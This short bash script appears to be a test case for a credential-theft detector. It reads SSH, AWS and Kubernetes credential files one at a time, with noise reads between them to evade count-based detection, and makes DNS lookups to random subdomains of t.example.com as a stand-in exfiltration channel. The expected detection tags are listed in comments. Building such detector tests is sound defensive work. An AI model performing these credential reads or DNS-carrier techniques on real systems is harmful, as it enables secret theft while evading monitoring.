#!/bin/bash
# Evades counting: one store at a time with noise between, one name at a time (minutes apart in life, half a second here).
# must: credential-access/private-key-read | credential-access/private-key-read-by-script | credential-access/credential-sweep
# must: credential-access/cloud-store-read
# must: command-and-control/dns-carrier
# gate: fail | warn
for store in .ssh/id_ed25519 .aws/credentials .kube/config; do
    cat ~/$store > /dev/null
    for noise in $(seq 20); do cat /usr/share/dict/words /etc/hosts > /dev/null 2>&1; done
    getent hosts "$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n').t.example.com" > /dev/null
    sleep 0.5
done
